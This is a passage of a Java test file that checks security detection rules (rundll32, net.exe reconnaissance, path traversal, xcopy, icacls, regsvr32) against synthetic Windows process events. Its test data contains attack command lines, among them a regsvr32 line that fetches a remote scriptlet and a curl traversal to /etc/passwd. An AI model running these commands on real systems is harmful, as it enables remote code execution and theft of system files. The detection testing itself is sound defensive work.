            "process", "RUNDLL32.EXE C:\\Users\\Public\\payload.dll,#1"),
        cim("2024-06-03T09:41:30Z", "process_name", "rundll32.exe", "original_file_name", "RUNDLL32.EXE",
            "parent_process_name", "control.exe", "process_id", "7004", "parent_process_id", "7000",
            "process", "rundll32.exe shell32.dll,Control_RunDLL desk.cpl"));
    assertRows(List.of(
        row("dest", DEST, "user", USER, "parent_process_name", "cmd.exe", "process_name", "rundll32.exe",
            "original_file_name", "RUNDLL32.EXE", "process", "rundll32.exe C:\\Users\\Public\\payload.dll,#1",
            "process_id", "7001", "parent_process_id", "7000",
            "firstTime", "2024-06-03T09:40:00", "lastTime", "2024-06-03T09:40:00"),
        row("dest", DEST, "user", USER, "parent_process_name", "wscript.exe", "process_name", "rundll32.exe",
            "original_file_name", "RUNDLL32.EXE",
            "process", "\"C:\\Windows\\System32\\rundll32.exe\" \"C:\\ProgramData\\upd.dll\",#12 /s",
            "process_id", "7002", "parent_process_id", "6999",
            "firstTime", "2024-06-03T09:40:30", "lastTime", "2024-06-03T09:40:30")),
        rows, "process_id");
  }

  /**
   * `process_net` AND (process="* user *" OR "*config*" OR "*view /all*") by process_name dest user
   * parent_process_name; where count >= 4. net.exe from cmd.exe: four matching runs (plain "net user" misses
   * "* user *": no space after "user") → count 4, values sorted bytewise ("net  user…" with two spaces first).
   * net1.exe (parent net.exe): three matching runs → count 3, dropped.
   */
  @Test
  void accountDiscoveryWithNet() throws IOException {
    List<Row> rows = run("account_discovery_with_net_app",
        net("2024-06-03T09:50:00Z", "net.exe", "cmd.exe", "8001", "net user /domain"),
        net("2024-06-03T09:50:10Z", "net.exe", "cmd.exe", "8002", "net  user administrator /domain"),
        net("2024-06-03T09:50:20Z", "net.exe", "cmd.exe", "8003", "net config workstation"),
        net("2024-06-03T09:50:30Z", "net.exe", "cmd.exe", "8004", "net view /all /domain"),
        net("2024-06-03T09:50:40Z", "net.exe", "cmd.exe", "8005", "net user"),
        net("2024-06-03T09:51:00Z", "net1.exe", "net.exe", "8101", "net1  user /domain"),
        net("2024-06-03T09:51:10Z", "net1.exe", "net.exe", "8102", "net1 config server"),
        net("2024-06-03T09:51:20Z", "net1.exe", "net.exe", "8103", "net1 view /all"));
    assertRows(List.of(
        row("process_name", "net.exe", "dest", DEST, "user", USER, "parent_process_name", "cmd.exe",
            "process", List.of("net  user administrator /domain", "net config workstation", "net user /domain",
                "net view /all /domain"),
            "parent_process", "cmd.exe /c recon.bat", "process_id", List.of("8001", "8002", "8003", "8004"),
            "count", "4", "firstTime", "2024-06-03T09:50:00", "lastTime", "2024-06-03T09:50:30")),
        rows, "process_name");
  }

  private static String net(String time, String name, String parentName, String pid, String command) {
    return cim(time, "process_name", name, "original_file_name", name, "parent_process_name", parentName,
        "parent_process", parentName.equals("cmd.exe") ? "cmd.exe /c recon.bat" : "net  user /domain",
        "process_id", pid, "process", command);
  }

  /**
   * eval count_of_patternN = mvcount(split(process, "/.." | "\.." | "\\.." | "//..")) - 1, kept when any is > 1.
   * In an eval string "\\" is one backslash and "\." stays "\.", so patterns 2 and 3 are both "\..".
   * "type ..\..\..\..\Windows\win.ini" holds "\.." 3 times; ".../app/../../../../etc/passwd" holds "/.." 4 times.
   * The rule groups by fields the written events lack: process_id/parent_process_id/process_hash become "null"
   * (fillnull_value=null, §4.1) and original_file_name the calculated "unknown" (§3.2). Real near miss: Sigma
   * line 126 (wmic … "C:\AtomicRedTeam\atomics\..\ExternalPayloads\calc.dll") has "\.." once.
   */
  @Test
  void pathTraversalHunting() throws IOException {
    String type = "cmd.exe /c type ..\\..\\..\\..\\Windows\\win.ini";
    String curl = "curl.exe http://10.0.0.9/app/../../../../etc/passwd";
    List<Row> rows = run("windows_command_and_scripting_interpreter_hunting_path_traversal",
        cim("2024-06-03T10:00:00Z", "process_name", "cmd.exe", "parent_process_name", "explorer.exe", "process", type),
        cim("2024-06-03T10:00:30Z", "process_name", "curl.exe", "parent_process_name", "cmd.exe", "process", curl,
            "process_id", "9001", "process_hash", "SHA256=0A1B", "original_file_name", "curl.exe"),
        cim("2024-06-03T10:01:00Z", "process_name", "cmd.exe", "parent_process_name", "explorer.exe",
            "process", "cmd.exe /c type ..\\boot.ini"));
    assertRows(List.of(
        row("original_file_name", "unknown", "process_id", "null", "parent_process_id", "null",
            "process_hash", "null", "dest", DEST, "user", USER, "parent_process_name", "explorer.exe",
            "process_name", "cmd.exe", "process", type, "count", "1",
            "firstTime", "2024-06-03T10:00:00", "lastTime", "2024-06-03T10:00:00",
            "count_of_pattern1", "0", "count_of_pattern2", "3", "count_of_pattern3", "3", "count_of_pattern4", "0"),
        row("original_file_name", "curl.exe", "process_id", "9001", "parent_process_id", "null",
            "process_hash", "SHA256=0A1B", "dest", DEST, "user", USER, "parent_process_name", "cmd.exe",
            "process_name", "curl.exe", "process", curl, "count", "1",
            "firstTime", "2024-06-03T10:00:30", "lastTime", "2024-06-03T10:00:30",
            "count_of_pattern1", "4", "count_of_pattern2", "0", "count_of_pattern3", "0", "count_of_pattern4", "0")),
        rows, "process_name");
  }

  /**
   * The rule groups by a field "temp" that no event has: with fillnull_value=null it is "null" rather than the row
   * being dropped (§4.1). Then split(process, " "), first_cmdline = lower(mvindex(…, 0)) and
   * NOT LIKE(first_cmdline, "%\\windows\\system32\\%") (one backslash each after eval unescaping).
   * Match: "xcopy.exe C:\Windows\System32\cmd.exe …" from cmd.exe. Near misses: the same copy started by its
   * full path C:\Windows\System32\xcopy.exe (first token is in system32); the same from explorer.exe (parent
   * not in the list); xcopy of C:\Users (no System32/SysWow64 in the command line).
   */
  @Test
  void suspiciousCopyOnSystem32() throws IOException {
    String copy = "xcopy.exe C:\\Windows\\System32\\cmd.exe C:\\Users\\Public\\svchost.exe*";
    List<Row> rows = run("suspicious_copy_on_system32",
        cim("2024-06-03T10:02:00Z", "process_name", "xcopy.exe", "parent_process_name", "cmd.exe",
            "process_id", "9101", "parent_process_id", "9100", "process", copy),
        cim("2024-06-03T10:02:10Z", "process_name", "xcopy.exe", "parent_process_name", "cmd.exe",
            "process_id", "9102", "parent_process_id", "9100",
            "process", "C:\\Windows\\System32\\xcopy.exe C:\\Windows\\System32\\calc.exe C:\\Temp\\"),
        cim("2024-06-03T10:02:20Z", "process_name", "xcopy.exe", "parent_process_name", "explorer.exe",
            "process_id", "9103", "parent_process_id", "9100", "process", copy),
        cim("2024-06-03T10:02:30Z", "process_name", "xcopy.exe", "parent_process_name", "cmd.exe",
            "process_id", "9104", "parent_process_id", "9100", "process", "xcopy.exe C:\\Users\\a D:\\b"));
    assertRows(List.of(
        row("dest", DEST, "user", USER, "parent_process_name", "cmd.exe", "process_name", "xcopy.exe",
            "process", copy, "process_id", "9101", "parent_process_id", "9100", "temp", "null", "count", "1",
            "firstTime", "2024-06-03T10:02:00", "lastTime", "2024-06-03T10:02:00",
            "splitted_commandline", List.of("xcopy.exe", "C:\\Windows\\System32\\cmd.exe",
                "C:\\Users\\Public\\svchost.exe*"),
            "first_cmdline", "xcopy.exe")),
        rows, "process_id");
  }

  /**
   * process IN ("*:R*", "*:W*", "*:F*", "*:C*",, "*:N*", then /P and /E each between stars): the shipped list
   * has an empty item (",,"), and the patterns after it still apply. "… /deny Users:N" matches only "*:N*"
   * (the "C:\" colon is followed by a backslash); "/grant Everyone:f" matches "*:F*" case-insensitively (§4.3).
   * Near miss:
   * "icacls C:\Windows\x /save acl.txt". No count in this rule; process_guid is absent, so "null" (§4.1).
   */
  @Test
  void icaclsAccessRights() throws IOException {
    List<Row> rows = run("windows_files_and_dirs_access_rights_modification_via_icacls",
        cim("2024-06-03T10:03:00Z", "process_name", "icacls.exe", "parent_process_name", "cmd.exe",
            "parent_process", "cmd.exe /c harden.bat", "process", "icacls C:\\ProgramData\\svc /deny Users:N"),
        cim("2024-06-03T10:03:30Z", "process_name", "ICACLS.EXE", "parent_process_name", "cmd.exe",
            "parent_process", "cmd.exe /c harden.bat", "process", "ICACLS C:\\Temp\\x.exe /grant Everyone:f"),
        cim("2024-06-03T10:04:00Z", "process_name", "icacls.exe", "parent_process_name", "cmd.exe",
            "parent_process", "cmd.exe /c harden.bat", "process", "icacls C:\\Windows\\x /save acl.txt"));
    assertRows(List.of(
        row("parent_process_name", "cmd.exe", "parent_process", "cmd.exe /c harden.bat", "process_name", "icacls.exe",
            "process", "icacls C:\\ProgramData\\svc /deny Users:N", "process_guid", "null", "dest", DEST,
            "user", USER, "firstTime", "2024-06-03T10:03:00", "lastTime", "2024-06-03T10:03:00"),
        row("parent_process_name", "cmd.exe", "parent_process", "cmd.exe /c harden.bat", "process_name", "ICACLS.EXE",
            "process", "ICACLS C:\\Temp\\x.exe /grant Everyone:f", "process_guid", "null", "dest", DEST,
            "user", USER, "firstTime", "2024-06-03T10:03:30", "lastTime", "2024-06-03T10:03:30")),
        rows, "firstTime");
  }

  /**
   * `process_regsvr32` AND process="*" + "/i*", then match(process, "(?i)[\-|\/][Ss]{1}"): "/s" or "-S" must
   * appear. "regsvr32.exe /s /u /i:http://10.0.0.5/file.sct scrobj.dll" matches; the same renamed (process_name
   * svc.exe, original_file_name REGSVR32.EXE) with "-S" matches; "/i:…" without /s misses the regex.
   */
  @Test
  void regsvr32SilentInstall() throws IOException {
    String silent = "regsvr32.exe /s /u /i:http://10.0.0.5/file.sct scrobj.dll";
    String renamed = "svc.exe -S /i:C:\\Users\\Public\\x.sct scrobj.dll";
    List<Row> rows = run("regsvr32_silent_and_install_param_dll_loading",
        cim("2024-06-03T10:05:00Z", "process_name", "regsvr32.exe", "original_file_name", "REGSVR32.EXE",
            "parent_process_name", "cmd.exe", "parent_process", "cmd.exe /c run.bat", "process", silent),
        cim("2024-06-03T10:05:30Z", "process_name", "svc.exe", "original_file_name", "REGSVR32.EXE",
            "parent_process_name", "winword.exe", "parent_process", "WINWORD.EXE /n", "process", renamed),
        cim("2024-06-03T10:06:00Z", "process_name", "regsvr32.exe", "original_file_name", "REGSVR32.EXE",
            "parent_process_name", "cmd.exe", "parent_process", "cmd.exe /c run.bat",
            "process", "regsvr32.exe /i:http://10.0.0.5/a.sct scrobj.dll"));
    assertRows(List.of(
        row("dest", DEST, "parent_process", "cmd.exe /c run.bat", "process", silent, "parent_process_name", "cmd.exe",
            "process_name", "regsvr32.exe", "original_file_name", "REGSVR32.EXE", "user", USER, "count", "1",
            "firstTime", "2024-06-03T10:05:00", "lastTime", "2024-06-03T10:05:00"),
        row("dest", DEST, "parent_process", "WINWORD.EXE /n", "process", renamed, "parent_process_name", "winword.exe",
            "process_name", "svc.exe", "original_file_name", "REGSVR32.EXE", "user", USER, "count", "1",
            "firstTime", "2024-06-03T10:05:30", "lastTime", "2024-06-03T10:05:30")),
        rows, "firstTime");
  }
}
